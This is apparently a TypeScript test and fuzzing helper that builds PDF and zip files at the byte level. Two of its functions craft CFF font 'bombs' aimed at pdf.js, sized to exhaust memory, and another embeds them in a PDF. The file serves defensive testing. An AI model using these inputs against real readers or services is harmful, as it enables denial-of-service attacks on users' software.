/**
 * Byte-level builders for hostile inputs: a PDF from numbered object bodies (with a correct cross-reference
 * table, so only what the body says is hostile), and a zip (stored or deflated entries) for OOXML packages.
 * Used by the fuzz generator's hand-made bombs and by the tests of each finding.
 */
import { crc32, deflateRawSync, deflateSync, inflateRawSync } from 'node:zlib';

export type PdfObject = string | Buffer;

/** A stream object body: `<<dict /Length n>> stream … endstream`, Flate-compressed unless raw is set. */
export function pdfStream(dict: string, data: Buffer | string, opts: { raw?: boolean } = {}): Buffer {
  const body = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  const payload = opts.raw ? body : deflateSync(body);
  const filter = opts.raw ? '' : ' /Filter /FlateDecode';
  return Buffer.concat([
    Buffer.from(`<<${dict}${filter} /Length ${payload.length}>>\nstream\n`, 'latin1'),
    payload,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/**
 * A PDF of the given objects (object i+1 is objects[i]); object 1 is the catalog unless root says otherwise.
 * prefix goes before the header (junk a gateway prepends); the offsets stay those of the PDF without it.
 */
export function rawPdf(objects: PdfObject[], opts: { root?: number; prefix?: Buffer; trailer?: string } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let pos = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(pos);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), typeof o === 'string' ? Buffer.from(o, 'latin1') : o, Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(b);
    pos += b.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<</Size ${objects.length + 1} /Root ${opts.root ?? 1} 0 R${opts.trailer ?? ''}>>\nstartxref\n${pos}\n%%EOF\n`, 'latin1'));
  const pdf = Buffer.concat(parts);
  return opts.prefix ? Buffer.concat([opts.prefix, pdf]) : pdf;
}

/** A one-page PDF: catalog, pages, page (A4 unless box is given), content, Helvetica, and extra objects from 6 on. */
export function onePagePdf(content: string | Buffer, opts: { resources?: string; extra?: PdfObject[]; box?: string; prefix?: Buffer } = {}): Buffer {
  return rawPdf([
    '<</Type /Catalog /Pages 2 0 R>>',
    '<</Type /Pages /Kids [3 0 R] /Count 1>>',
    `<</Type /Page /Parent 2 0 R /MediaBox [${opts.box ?? '0 0 595 842'}] /Contents 4 0 R /Resources <</Font <</F1 5 0 R>> ${opts.resources ?? ''}>>>>`,
    pdfStream('', content),
    '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>',
    ...(opts.extra ?? []),
  ], { prefix: opts.prefix });
}

/** Text lines drawn with Helvetica, for pages that must have a readable text layer. */
export function textOps(lines: string[], y0 = 780): string {
  return lines.map((t, i) => `BT /F1 12 Tf 50 ${y0 - i * 20} Td (${t.replace(/[()\\]/g, '\\$&')}) Tj ET`).join('\n');
}

/**
 * A CID-keyed CFF font program (FontFile3 /CIDFontType0C) of two glyphs whose FDSelect (format 3) has `ranges`
 * ranges alternating 0…65535 and 65535…0: a reader expanding the ranges into one entry per glyph, as pdf.js
 * does before it compares the count with the glyphs, makes 32 767 entries per pair of ranges (4096 ranges:
 * 134 million, past the largest array V8 allows).
 */
export function cffFdSelectBomb(ranges: number): Buffer {
  const i32 = (n: number) => [29, (n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];
  const index1 = (items: number[][]) => {
    // an INDEX with 1-byte offsets (count 0: two zero bytes)
    if (!items.length) return [0, 0];
    const offs = [1];
    for (const it of items) offs.push(offs[offs.length - 1] + it.length);
    return [(items.length >> 8) & 255, items.length & 255, 1, ...offs, ...items.flat()];
  };
  const header = [1, 0, 4, 1];
  const names = index1([[0x41]]);
  const topLen = 2 + 1 + 2 + 25; // the Top DICT INDEX: count, offSize, two offsets, a 25-byte dict
  const charStringsAt = header.length + names.length + topLen + 2 + 2;
  const charStrings = index1([[14], [14]]); // two glyphs, each `endchar`
  const fdArrayAt = charStringsAt + charStrings.length;
  const fdArray = index1([[]]);
  const fdSelectAt = fdArrayAt + fdArray.length;
  const top = [139, 139, 139, 12, 30, ...i32(charStringsAt), 17, ...i32(fdArrayAt), 12, 36, ...i32(fdSelectAt), 12, 37];
  const fdSelect = [3, (ranges >> 8) & 255, ranges & 255];
  for (let i = 0; i < ranges; i++) fdSelect.push(...(i % 2 ? [255, 255] : [0, 0]), 0);
  fdSelect.push(0, 2); // the sentinel: two glyphs
  return Buffer.from([...header, ...names, ...index1([top]), 0, 0, 0, 0, ...charStrings, ...fdArray, ...fdSelect]);
}

/**
 * A CID-keyed CFF font program of two glyphs whose FDArray has `count` Font DICTs, the odd ones all spanning the
 * same `span` bytes (the even ones empty, their offsets running back): a reader that parses each Font DICT, as
 * pdf.js does, parses count/2 × span bytes (65 534 × 4096: 134 million, in 67 million entries), from a program of about count × 2 bytes.
 */
export function cffFdArrayBomb(count: number, span: number): Buffer {
  const i32 = (n: number) => [29, (n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];
  const header = [1, 0, 4, 1];
  const names = [0, 1, 1, 1, 2, 0x41];
  const topLen = 2 + 1 + 2 + 25;
  const charStringsAt = header.length + names.length + topLen + 2 + 2;
  const charStrings = [0, 2, 1, 1, 2, 3, 14, 14]; // two glyphs, each `endchar`
  const fdArrayAt = charStringsAt + charStrings.length;
  // offsets of 2 bytes: 1, span + 1, 1, span + 1, …
  const fdArray = [(count >> 8) & 255, count & 255, 2];
  for (let i = 0; i <= count; i++) fdArray.push(...(i % 2 ? [((span + 1) >> 8) & 255, (span + 1) & 255] : [0, 1]));
  for (let i = 0; i < span; i++) fdArray.push(i % 2 ? 0 : 139); // the DICT data: `0 version`, over and over
  const fdSelectAt = fdArrayAt + fdArray.length;
  const top = [139, 139, 139, 12, 30, ...i32(charStringsAt), 17, ...i32(fdArrayAt), 12, 36, ...i32(fdSelectAt), 12, 37];
  const fdSelect = [3, 0, 1, 0, 0, 0, 0, 2]; // one range: both glyphs use Font DICT 0
  return Buffer.from([...header, ...names, 0, 1, 1, 1, 1 + top.length, ...top, 0, 0, 0, 0, ...charStrings, ...fdArray, ...fdSelect]);
}

/** A one-page PDF whose text is shown in a Type0 font with the given CFF program (FontFile3 /CIDFontType0C). */
export function cffFontPdf(cff: Buffer): Buffer {
  return onePagePdf(`${textOps(['Table 1', 'item 10.00'])}
BT /F2 12 Tf 50 700 Td <00010001> Tj ET`, {
    resources: '/Font <</F1 5 0 R /F2 6 0 R>>',
    extra: [
      '<</Type /Font /Subtype /Type0 /BaseFont /Bomb /Encoding /Identity-H /DescendantFonts [7 0 R]>>',
      '<</Type /Font /Subtype /CIDFontType0 /BaseFont /Bomb /CIDSystemInfo <</Registry (Adobe) /Ordering (Identity) /Supplement 0>> /FontDescriptor 8 0 R>>',
      '<</Type /FontDescriptor /FontName /Bomb /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile3 9 0 R>>',
      pdfStream('/Subtype /CIDFontType0C', cff),
    ],
  });
}

export interface ZipEntry {
  name: string;
  data: Buffer;
  /** stored (0) or deflated (8, default) */
  method?: 0 | 8;
}

/** A zip archive: local headers, data, central directory. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const method = e.method ?? 8;
    const body = method === 8 ? deflateRawSync(e.data) : e.data;
    const name = Buffer.from(e.name, 'utf8');
    const crc = crc32(e.data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0x0800, 6); // names in UTF-8
    lh.writeUInt16LE(method, 8);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(body.length, 18);
    lh.writeUInt32LE(e.data.length, 22);
    lh.writeUInt16LE(name.length, 26);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(0x0800, 8);
    ch.writeUInt16LE(method, 10);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(body.length, 20);
    ch.writeUInt32LE(e.data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    locals.push(lh, name, body);
    centrals.push(ch, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

interface ZipLocal {
  name: string;
  method: number;
  /** where the entry's (compressed) bytes are */
  start: number;
  end: number;
}

/** The entries of a zip as its local headers give them (enough for the packages Excel and LibreOffice write). */
export function zipDataRanges(buf: Buffer): ZipLocal[] {
  const out: ZipLocal[] = [];
  let p = 0;
  while (p + 30 <= buf.length && buf.readUInt32LE(p) === 0x04034b50) {
    const flags = buf.readUInt16LE(p + 6);
    const method = buf.readUInt16LE(p + 8);
    let size = buf.readUInt32LE(p + 18);
    const nameLen = buf.readUInt16LE(p + 26);
    const extraLen = buf.readUInt16LE(p + 28);
    const name = buf.subarray(p + 30, p + 30 + nameLen).toString('utf8');
    const start = p + 30 + nameLen + extraLen;
    const descriptor = (flags & 8) !== 0;
    if (descriptor && size === 0) {
      // sizes in a data descriptor after the data: its signature tells where the data ends
      const next = buf.indexOf(Buffer.from([0x50, 0x4b, 0x07, 0x08]), start);
      size = next < 0 ? buf.length - start : next - start;
    }
    out.push({ name, method, start, end: start + size });
    p = start + size + (descriptor ? 16 : 0);
  }
  return out;
}

/** The entries of a zip with their uncompressed data. */
export function unzip(buf: Buffer): ZipEntry[] {
  return zipDataRanges(buf).map((e) => {
    const raw = buf.subarray(e.start, e.end);
    return { name: e.name, data: e.method === 8 ? inflateRawSync(raw) : Buffer.from(raw), method: e.method === 8 ? 8 : 0 };
  });
}
